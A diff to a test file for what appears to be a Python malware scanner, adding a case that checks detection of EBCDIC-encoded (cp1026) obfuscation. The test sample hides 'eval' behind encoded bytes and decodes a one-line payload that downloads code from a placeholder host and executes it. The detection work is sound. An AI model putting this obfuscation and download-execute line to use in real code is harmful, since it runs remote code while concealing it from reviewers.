@@ -7,12 +7,15 @@ import { before, test } from 'node:test';
 import { initAnalysis } from '../../src/analysis/api.ts';
 import { analyzePythonFile } from '../../src/analysis/python-file.ts';
 import type { Finding } from '../../src/model/result.ts';
+import codecData from '../../data/python-codecs.json' with { type: 'json' };
 
 before(() => initAnalysis());
 
 function findings(source: string, path = 'demo/mod.py'): Finding[] {
   return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
 }
+/** CPython's cp1026 (EBCDIC) decoding table, as recorded in data/python-codecs.json. */
+const EBCDIC: string = codecData.decodeOnly.cp1026.table;
 const codes = (name: string) => `[${[...name].map((c) => c.charCodeAt(0)).join(', ')}]`;
 
 test('__import__ and getattr fetched from globals()["__builtins__"] by chr()-spelt names, through a bound "".join', () => {
@@ -133,4 +136,20 @@ test('code in a constant string given to exec() is analysed as code that runs wh
     undefined,
     '120 spaces before harmless code',
   );
+});
+
+test('bytes decoded with an EBCDIC codec (cp1026) are read as Python reads them, and what they spell is disguised', () => {
+  const ebcdic = (text: string) =>
+    `b'${[...Buffer.from(text, 'latin1')].map((c) => `\\x${EBCDIC.indexOf(String.fromCharCode(c)).toString(16).padStart(2, '0')}`).join('')}'`;
+  const source = [
+    'import builtins',
+    `cc = getattr(builtins, ${ebcdic('eval')}.decode('cp1026'))`,
+    `cc(${ebcdic("exec(__import__('requests').get('https://paste.example.invalid/raw').text)")}.decode('cp1026'))`,
+  ].join('\n');
+  const files = analyzePythonFile('demo/mod.py', new TextEncoder().encode(source));
+  const rules = files[0].findings.map((f) => f.rule);
+  assert.ok(rules.includes('obfuscated-builtin'), 'eval fetched by an EBCDIC-spelt name');
+  assert.ok(rules.includes('exec-decoded-payload'), 'the EBCDIC payload is decoded and rescanned');
+  const inner = files.flatMap((file) => file.findings).find((f) => f.rule === 'download-execute');
+  assert.equal(inner?.severity, 'critical');
 });
